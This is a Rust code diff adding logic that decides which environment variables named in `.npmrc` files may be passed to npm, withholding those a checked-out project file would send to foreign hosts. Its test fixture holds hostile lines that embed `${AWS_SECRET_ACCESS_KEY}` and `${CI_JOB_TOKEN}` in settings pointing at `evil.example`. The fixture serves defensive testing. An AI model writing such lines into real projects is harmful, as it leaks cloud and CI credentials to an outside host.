@@ -2,13 +2,16 @@
 //!
 //! Owns: reading `.npmrc` files for that. No credential is passed on from here: npm reads its own files and variables.
 
-use std::path::Path;
+use std::collections::{BTreeMap, BTreeSet};
+use std::ffi::OsString;
+use std::path::{Path, PathBuf};
 
 use crate::env::Env;
 use crate::error::Result;
 use crate::fsx;
 use crate::packages::python::secrets::in_urls;
 use crate::redact::SecretString;
+use crate::trust;
 
 /// Ends of the keys that hold credentials, such as `//registry.example.com/:_authToken`.
 const CREDENTIALS: [&str; 5] = ["_auth", "_authtoken", "_password", "username", "email"];
@@ -38,11 +41,8 @@ impl Npmrc {
             found.lines.push(format!("{key}={value}"));
         }
         found.lines.sort_unstable();
-        let user_file = env
-            .var("npm_config_userconfig")
-            .map_or_else(|| env.home().map(|home| home.join(".npmrc")), |path| Some(env.cwd().join(path)));
         // A file that may not be read holds nothing that npm could use.
-        let user = user_file.and_then(|file| fsx::read_text(&file).ok().flatten()).unwrap_or_default();
+        let user = user_file(env).and_then(|file| fsx::read_text(&file).ok().flatten()).unwrap_or_default();
         for (key, value) in settings(&project).chain(settings(&user)) {
             let value = expand(value, env);
             found.secrets.extend(in_urls(&value));
@@ -64,6 +64,43 @@ impl Npmrc {
         }
         Ok(found)
     }
+}
+
+/// What settings take from the environment (`${NAME}`, `${NAME?}`).
+#[derive(Debug, Default, PartialEq, Eq)]
+pub(super) struct Named {
+    pub(super) given: BTreeMap<String, OsString>,
+    /// Names that the project's file would send where they do not belong.
+    pub(super) withheld: BTreeSet<String>,
+}
+
+/// The variables that the project's file and the user's name. The project's file comes with a checkout, so that a variable
+/// of a cloud or CI system must be for a host of its own; in the user's file it is the user's word.
+pub(super) fn variables(project: &Path, env: &Env) -> Result<Named> {
+    let mut named = Named::default();
+    let user = user_file(env).and_then(|file| fsx::read_text(&file).ok().flatten()).unwrap_or_default();
+    let project = fsx::read_text(&project.join(".npmrc"))?.unwrap_or_default();
+    for (text, is_project) in [(&user, false), (&project, true)] {
+        for line in text.lines().map(str::trim).filter(|line| !line.starts_with([';', '#'])) {
+            for name in line.split("${").skip(1).filter_map(|rest| rest.split_once('}')).map(|(name, _)| name) {
+                let name = name.trim_end_matches('?');
+                let Some(value) = env.var_os(name) else { continue };
+                if is_project && !trust::may_be_sent(name, line, env) {
+                    named.withheld.insert(name.to_owned());
+                } else {
+                    named.given.insert(name.to_owned(), value.clone());
+                }
+            }
+        }
+    }
+    // Once given, npm fills it in everywhere.
+    named.given.retain(|name, _| !named.withheld.contains(name));
+    Ok(named)
+}
+
+fn user_file(env: &Env) -> Option<PathBuf> {
+    let named = env.var("npm_config_userconfig").or_else(|| env.var("NPM_CONFIG_USERCONFIG"));
+    named.map_or_else(|| env.home().map(|home| home.join(".npmrc")), |path| Some(env.cwd().join(path)))
 }
 
 /// Keys and values of an ini file, quotes removed.
@@ -117,6 +154,24 @@ pub(super) fn without_userinfo(text: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn npm_gets_the_variables_that_its_settings_name_for_their_own_hosts() {
+        let dir = tempfile::tempdir().unwrap();
+        let home = dir.path().join("home");
+        std::fs::create_dir(&home).unwrap();
+        std::fs::write(home.join(".npmrc"), "//r.example/:_authToken=${GH_TOKEN}\n").unwrap();
+        let project = "//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\n//r.example/:_authToken=${ACME_TOKEN?}\n\
+                       # ${AWS_REGION}\nregistry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/\n\
+                       //evil.example/:_authToken=${CI_JOB_TOKEN}\n";
+        std::fs::write(dir.path().join(".npmrc"), project).unwrap();
+        let home = home.display().to_string();
+        let vars = ["GITHUB_TOKEN", "GH_TOKEN", "ACME_TOKEN", "AWS_REGION", "AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"];
+        let vars: Vec<_> = vars.into_iter().map(|name| (name, "v")).chain([("HOME", home.as_str())]).collect();
+        let named = variables(dir.path(), &Env::fake(dir.path(), &vars)).unwrap();
+        assert_eq!(named.given.into_keys().collect::<Vec<_>>(), ["ACME_TOKEN", "GH_TOKEN", "GITHUB_TOKEN"]);
+        assert_eq!(named.withheld.into_iter().collect::<Vec<_>>(), ["AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"]);
+    }
     use crate::redact::{ExposeSecret, scrub};
 
     #[test]
